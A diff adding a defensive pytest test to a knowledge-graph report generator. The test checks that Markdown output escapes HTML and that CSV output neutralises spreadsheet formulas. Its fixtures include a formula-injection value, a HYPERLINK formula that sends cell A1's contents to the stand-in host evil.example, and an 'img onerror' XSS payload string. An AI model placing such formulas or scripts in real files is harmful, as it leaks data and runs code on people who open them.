@@ -56,3 +56,42 @@ def test_the_report_shows_hostile_strings_as_text_and_runs_nothing(tmp_path):
     assert entry == [f"src-evil: {HOSTILE_NAME}. {HOSTILE_ALIAS}, 2026-01-20. Reliability: low. "
                      "No link or identifier in the data."]
     assert cites >= 1
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_report_md_and_csv_neither_run_html_nor_formulas(tmp_path):
+    """A maintainer's trial: report.md wrote a name "<script>..." as it was (HTML that a
+    renderer letting HTML through would run), and the report's CSV files wrote a name
+    '=HYPERLINK(...)' as it was (a formula Excel would run). Markdown now has "&lt;" and
+    the CSV a "'" first; the JSON keeps every value exact."""
+    import csv
+    import json
+
+    import yaml
+
+    from kg import load_graph
+    from kg.analysis.report import write_report
+
+    files = {**HOSTILE_FILES, "organization/formula.yaml": yaml.safe_dump({
+        "id": "formula", "name": FORMULA_NAME, "org_type": "company", "country": "china",
+        "partners": ["deepseek", "hostile"], "sources": ["src-evil"]})}
+    out = tmp_path / "report"
+    write_report(load_graph(write_data(tmp_path, files)).semantics, out,
+                 formats=("md", "csv", "json"))
+    md = (out / "report.md").read_text(encoding="utf-8")
+    import re
+
+    # every "<" of a tag is "&lt;" or backslash-escaped ("\\<": the Sources list's way)
+    assert not re.search(r"(?<!\\)<(img|script|/script|svg)", md)
+    assert "&lt;img src=x onerror=alert(1)&gt;" in md  # shown as the characters it is
+    names = [row["entity"] for row in csv.DictReader(
+        (out / "centrality.csv").open(encoding="utf-8"))]
+    assert "'" + FORMULA_NAME in names and FORMULA_NAME not in names
+    assert HOSTILE_NAME in names  # text that is no formula is as it was
+    for path in out.glob("*.csv"):
+        for row in csv.reader(path.open(encoding="utf-8")):
+            assert not [c for c in row if c[:1] in ("=", "+", "@")], path.name
+    tables = json.loads((out / "report.json").read_text(encoding="utf-8"))["tables"]
+    assert FORMULA_NAME in {r["entity"] for r in tables["centrality"]}
